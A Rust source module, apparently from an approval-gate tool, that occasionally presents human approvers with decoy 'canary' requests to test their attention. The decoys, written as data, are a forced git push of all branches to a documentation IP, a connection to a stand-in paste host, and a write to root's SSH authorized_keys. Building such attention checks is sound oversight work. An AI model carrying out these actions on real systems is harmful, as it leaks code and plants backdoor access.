//! Tests of attention: questions about something that nobody attempts, and that a reader says no to. Only where a policy opts
//! in; announced with each question; at most two of a hundred. Nothing waits for their answer, so nothing can come of it.

use std::collections::HashSet;

use tollgate_ledger::record::{Decider, Decision, Event, Outcome};
use tollgate_policy::action::{Access, Action, Connect, Exec, Form, Image, PathAccess, Target};
use tollgate_policy::digest::sha256_hex;
use tollgate_policy::evidence::{Destination, Section};
use tollgate_policy::grant::Grants;
use tollgate_policy::path::AbsPath;
use tollgate_policy::question::{Approval, Question};
use tollgate_policy::raw::Raw;
use tollgate_policy::verdict::Effect;
use tollgate_wire::ask::History;

use crate::evidence;
use crate::gate::Gate;
use crate::hold::decided;
use crate::record::now;

/// Within so many questions after one is due it is put: when, nobody can tell beforehand.
const SPREAD: u64 = 8;

/// Those of a run.
#[derive(Debug, Default)]
pub(crate) struct Canaries {
    /// Read from the ledger when the first question is put.
    history: Option<History>,
    put: u64,
    open: HashSet<String>,
}

impl Canaries {
    /// Whether the next one is due, after one more question of a person: with it, no more than `share` of a hundred are tests.
    fn is_due(&mut self, share: u64, seed: u64, before: impl FnOnce() -> History) -> bool {
        let history = self.history.get_or_insert_with(before);
        history.asked += 1;
        let tests = history.tests + 1;
        let needed = tests.saturating_mul(100).div_ceil(share.max(1)) + seed % SPREAD;
        share > 0 && history.asked >= needed
    }

    fn put(&mut self, id: &str) {
        self.put += 1;
        if let Some(history) = &mut self.history {
            history.tests += 1;
        }
        self.open.insert(id.to_owned());
    }
}

/// What no careful reader approves. Names and addresses are those of documentation (RFC 2606, RFC 5737).
fn temptations(seed: u64) -> [Action; 3] {
    let command = |words: &[&str]| {
        let program = words.first().copied().unwrap_or_default();
        let image = Image {
            executable: AbsPath::new(format!("/usr/bin/{program}")).ok(),
            form: Form::Native,
            writable: false,
            sha256: None,
        };
        let argv = words.iter().map(|word| Raw::from(*word)).collect();
        Action::Exec(Exec { given: program.into(), image, argv, cwd: AbsPath::root() })
    };
    let name = format!("paste-{:04x}.example.net", seed & 0xffff);
    let key = AbsPath::new("/root/.ssh/authorized_keys").unwrap_or_else(|_| AbsPath::root());
    let mut all = [
        command(&["git", "push", "--force", "http://203.0.113.7/mirror.git", "--all"]),
        Action::Connect(Connect { target: Target::Name(name), port: 8443 }),
        Action::Path(PathAccess { path: key, access: Access::Write }),
    ];
    all.rotate_left(usize::try_from(seed % 3).unwrap_or(0));
    all
}

impl Gate<'_> {
    /// A question was put to people: now and then, a test goes with it.
    pub(crate) fn test_attention(&mut self, question: &Question, action: u64) {
        let share = self.run.policy.canaries();
        if share == 0 {
            return;
        }
        let seed = seed(&format!("{} {}", self.run.id, self.canaries.put));
        let asker = &*self.run.asker;
        if !self.canaries.is_due(share, seed, || asker.history()) {
            return;
        }
        let asks = |what: &Action| {
            let verdict = self.run.policy.judge(&self.run.subject, what, &Grants::default(), now());
            (verdict.effect == Effect::Ask).then_some(verdict)
        };
        let Some((what, verdict)) = temptations(seed).into_iter().find_map(|what| Some((what.clone(), asks(&what)?)))
        else {
            return;
        };
        self.ending.questions += 1;
        let id = format!("{}-{}", self.run.id, self.ending.questions);
        let mut facts = evidence::of_action(&what);
        if let Action::Connect(_) | Action::Exec(_) = &what {
            let name =
                if let Action::Connect(to) = &what { tollgate_wire::card::target(to) } else { "203.0.113.7".into() };
            facts.push(Section::Destination(Destination {
                name,
                class: "public".into(),
                first_time: Some(true),
                ..Destination::default()
            }));
        }
        let mut test = Question {
            lineage: question.lineage.clone(),
            evidence: facts,
            asked_at: question.asked_at,
            deadline: question.deadline,
            canary: true,
            ..Question::new(&id, &self.run.id, what, verdict)
        };
        self.run.policy.assess(&mut test);
        test.seal(&self.run.started.policy);
        if let Err(unwritten) = self.pen.durable(Event::Asked { action, question: test.clone() }) {
            return self.broken(unwritten);
        }
        if self.run.asker.raise(test).is_ok() {
            self.pen.asks(&id);
            self.canaries.put(&id);
        }
    }

    /// Writes down the answer to a test; whether it was one.
    pub(crate) fn test_answered(&mut self, approval: &Approval) -> bool {
        let outcome = if approval.answer.is_yes() { Outcome::Allowed } else { Outcome::Denied };
        let decision = Decision {
            by: approval.by.clone(),
            channel: approval.channel.clone(),
            seen: Some(approval.seen),
            ..decided(outcome, Decider::Human, &approval.reason)
        };
        self.test_ended(&approval.question, decision)
    }

    /// Nobody answered in time; whether it was a test.
    pub(crate) fn test_expired(&mut self, id: &str) -> bool {
        self.test_ended(id, decided(Outcome::Expired, Decider::Human, "nobody answered in time"))
    }

    /// The run ends: its tests do, too.
    pub(crate) fn end_tests(&mut self, why: &str) {
        for id in self.canaries.open.clone() {
            self.run.asker.withdraw(&id);
            self.test_ended(&id, decided(Outcome::Aborted, Decider::Policy, why));
        }
    }

    fn test_ended(&mut self, id: &str, mut decision: Decision) -> bool {
        if !self.canaries.open.remove(id) {
            return false;
        }
        decision.waited = self.pen.asked_for(id);
        if let Err(unwritten) = self.pen.group(Event::Decided { action: 0, question: id.to_owned(), decision }) {
            self.broken(unwritten);
        }
        true
    }
}

/// A number that follows from the run's random id: approvers can't count to the next one.
fn seed(text: &str) -> u64 {
    let hex = sha256_hex(text.as_bytes());
    hex.get(..8).and_then(|hex| u64::from_str_radix(hex, 16).ok()).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn never_more_than_the_share_and_never_far_behind_it() {
        for share in [0, 1, 2] {
            let (mut canaries, mut put) = (Canaries::default(), 0);
            let begun = History { asked: 30, tests: 0 };
            for asked in 31..5_000_u64 {
                if canaries.is_due(share, asked % 7, || begun) {
                    canaries.put(&asked.to_string());
                    put += 1;
                }
                assert!(put * 100 <= share * asked, "{put} of {asked}");
                assert!((put + 1) * 100 + share * SPREAD >= share * asked || share == 0, "{put} of {asked}");
            }
            assert_eq!(put > 0, share > 0);
        }
    }
}
